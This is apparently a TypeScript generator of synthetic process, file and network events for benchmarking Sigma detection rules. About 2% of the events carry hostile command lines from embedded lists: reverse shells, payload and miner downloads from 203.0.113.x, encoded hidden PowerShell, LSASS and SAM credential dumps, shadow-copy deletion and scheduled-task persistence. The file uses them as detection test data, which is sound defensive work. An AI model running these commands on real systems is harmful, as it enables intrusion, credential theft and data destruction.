// Reproducible event streams for the Sigma benchmark: mostly benign activity with realistic field
// values (paths, command lines, users, IPs) and about 2 % events that real rules match.
import { seededRandom, type Random } from './random.ts';

const linuxBinaries = ['/usr/bin/ls', '/usr/bin/cat', '/usr/bin/grep', '/usr/bin/bash', '/usr/bin/python3', '/usr/bin/git', '/usr/bin/ssh',
  '/usr/sbin/sshd', '/usr/bin/systemctl', '/usr/bin/sed', '/usr/bin/awk', '/usr/bin/find', '/usr/bin/tar', '/usr/bin/node', '/usr/bin/make',
  '/usr/bin/gcc', '/usr/bin/docker', '/usr/bin/ps', '/usr/bin/sleep', '/usr/bin/date', '/usr/lib/postgresql/15/bin/postgres', '/usr/sbin/nginx'];
const users = ['root', 'alice', 'bob', 'www-data', 'postgres', 'deploy', 'ci-runner', 'nobody'];
const dirs = ['/home/alice/src/app', '/var/www/html', '/srv/data', '/opt/service', '/home/bob', '/tmp/build-4411', '/var/lib/postgresql'];
const files = ['main.c', 'index.js', 'report.csv', 'config.yaml', 'notes.md', 'app.log', 'data.json', 'Makefile', 'image.png'];

const linuxAttacks: readonly { Image: string; CommandLine: string }[] = [
  { Image: '/usr/bin/bash', CommandLine: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' },
  { Image: '/usr/bin/curl', CommandLine: 'curl -s http://203.0.113.9/x.sh -o /tmp/x.sh' },
  { Image: '/usr/bin/base64', CommandLine: 'base64 -d /tmp/payload.b64' },
  { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 203.0.113.7 4444' },
  { Image: '/usr/bin/python3', CommandLine: 'python3 -c import pty;pty.spawn("/bin/bash")' },
  { Image: '/usr/bin/crontab', CommandLine: 'crontab -r' },
  { Image: '/usr/bin/chattr', CommandLine: 'chattr -i /etc/passwd' },
  { Image: '/usr/sbin/userdel', CommandLine: 'userdel backdoor' },
  { Image: '/usr/bin/wget', CommandLine: 'wget http://203.0.113.9/miner -O /dev/shm/kworker' },
  { Image: '/usr/sbin/iptables', CommandLine: 'iptables -F' },
];

const windowsBinaries = ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\explorer.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'C:\\Windows\\System32\\conhost.exe', 'C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  'C:\\Windows\\System32\\taskhostw.exe', 'C:\\Windows\\System32\\SearchIndexer.exe', 'C:\\Program Files\\Git\\cmd\\git.exe',
  'C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', 'C:\\Windows\\System32\\dllhost.exe'];
const windowsAttacks: readonly { Image: string; CommandLine: string; OriginalFileName: string }[] = [
  { Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', OriginalFileName: 'PowerShell.EXE' },
  { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe', OriginalFileName: 'CertUtil.exe' },
  { Image: 'C:\\Windows\\System32\\vssadmin.exe', CommandLine: 'vssadmin.exe delete shadows /all /quiet', OriginalFileName: 'VSSADMIN.EXE' },
  { Image: 'C:\\Windows\\System32\\rundll32.exe', CommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full', OriginalFileName: 'RUNDLL32.EXE' },
  { Image: 'C:\\Windows\\System32\\reg.exe', CommandLine: 'reg.exe save HKLM\\SAM C:\\temp\\sam.save', OriginalFileName: 'reg.exe' },
  { Image: 'C:\\Windows\\System32\\schtasks.exe', CommandLine: 'schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe', OriginalFileName: 'schtasks.exe' },
];

export type Scenario = 'linux' | 'windows';

export function generateEventLines(scenario: Scenario, count: number, seed = 42): string[] {
  const random = seededRandom(seed);
  const lines: string[] = [];
  const start = Date.parse('2026-11-01T00:00:00Z');
  for (let i = 0; i < count; i++) {
    const time = new Date(start + i * 7).toISOString();
    const event = scenario === 'windows' ? windowsProcess(random, time) : linuxEvent(random, time);
    lines.push(JSON.stringify(event));
  }
  return lines;
}

function linuxEvent(random: Random, time: string): Record<string, unknown> {
  const roll = random.next();
  if (roll < 0.7) return linuxProcess(random, time);
  if (roll < 0.9) return linuxFile(random, time);
  return linuxNetwork(random, time);
}

function linuxProcess(random: Random, time: string): Record<string, unknown> {
  const attack = random.chance(0.02) ? random.pick(linuxAttacks) : undefined;
  const image = attack?.Image ?? random.pick(linuxBinaries);
  const dir = random.pick(dirs);
  const commandLine = attack?.CommandLine ?? `${image.split('/').pop()} ${random.pick(['-la', '-r', '--quiet', '-v', ''])} ${dir}/${random.pick(files)}`.trim();
  const parent = random.pick(['/usr/bin/bash', '/usr/lib/systemd/systemd', '/usr/sbin/sshd', '/usr/bin/make', '/usr/bin/node']);
  return {
    logsource: { product: 'linux', category: 'process_creation' },
    '@timestamp': time, host: `web-${random.int(40)}`, Image: image, CommandLine: commandLine, CurrentDirectory: dir,
    User: random.pick(users), ProcessId: 1000 + random.int(60000), ParentProcessId: 1 + random.int(5000), ParentImage: parent,
    ParentCommandLine: `${parent.split('/').pop()} ${random.pick(['-l', '--user', '-D', 'all', ''])}`.trim(),
  };
}

function linuxFile(random: Random, time: string): Record<string, unknown> {
  const suspicious = random.chance(0.02);
  const target = suspicious ? random.pick(['/etc/cron.d/update', '/etc/sudoers.d/ops', '/tmp/.x/loader.sh', '/etc/doas.conf'])
    : `${random.pick(dirs)}/${random.pick(files)}`;
  return {
    logsource: { product: 'linux', category: 'file_event' },
    '@timestamp': time, host: `web-${random.int(40)}`, TargetFilename: target, Image: random.pick(linuxBinaries),
    ProcessId: 1000 + random.int(60000), User: random.pick(users),
  };
}

function linuxNetwork(random: Random, time: string): Record<string, unknown> {
  const suspicious = random.chance(0.02);
  return {
    logsource: { product: 'linux', category: 'network_connection' },
    '@timestamp': time, host: `web-${random.int(40)}`, Image: suspicious ? '/usr/bin/bash' : random.pick(linuxBinaries),
    ProcessId: 1000 + random.int(60000), User: random.pick(users), Initiated: 'true', Protocol: random.pick(['tcp', 'udp']),
    SourceIp: `10.0.${random.int(255)}.${random.int(255)}`, SourcePort: 30000 + random.int(30000),
    DestinationIp: suspicious ? '203.0.113.7' : `${random.pick(['10.0', '172.16', '192.0.2'])}.${random.int(255)}.${random.int(255)}`,
    DestinationPort: suspicious ? 4444 : random.pick([443, 80, 5432, 22, 53]),
    DestinationHostname: suspicious ? 'x.ngrok.io' : random.pick(['api.example.com', 'db.internal', 'mirror.example.org']),
  };
}

function windowsProcess(random: Random, time: string): Record<string, unknown> {
  const attack = random.chance(0.02) ? random.pick(windowsAttacks) : undefined;
  const image = attack?.Image ?? random.pick(windowsBinaries);
  const exe = image.split('\\').pop()!;
  return {
    logsource: { product: 'windows', category: 'process_creation' },
    '@timestamp': time, Computer: `WS-${random.int(500)}.corp.example.com`, Image: image,
    CommandLine: attack?.CommandLine ?? `"${image}" ${random.pick(['--type=renderer', '-k netsvcs -p', '/n', '-Embedding', '--no-sandbox', ''])}`.trim(),
    OriginalFileName: attack?.OriginalFileName ?? exe, Product: 'Microsoft\u00ae Windows\u00ae Operating System', Company: 'Microsoft Corporation',
    Description: exe, CurrentDirectory: 'C:\\Windows\\system32\\', User: random.pick(['CORP\\alice', 'CORP\\bob', 'NT AUTHORITY\\SYSTEM']),
    IntegrityLevel: random.pick(['Medium', 'High', 'System']), ProcessId: random.int(20000), ParentProcessId: random.int(20000),
    ParentImage: random.pick(windowsBinaries), ParentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p',
    Hashes: `SHA256=${random.int(2 ** 31).toString(16).padStart(64, '0')}`, LogonId: '0x3e7',
  };
}
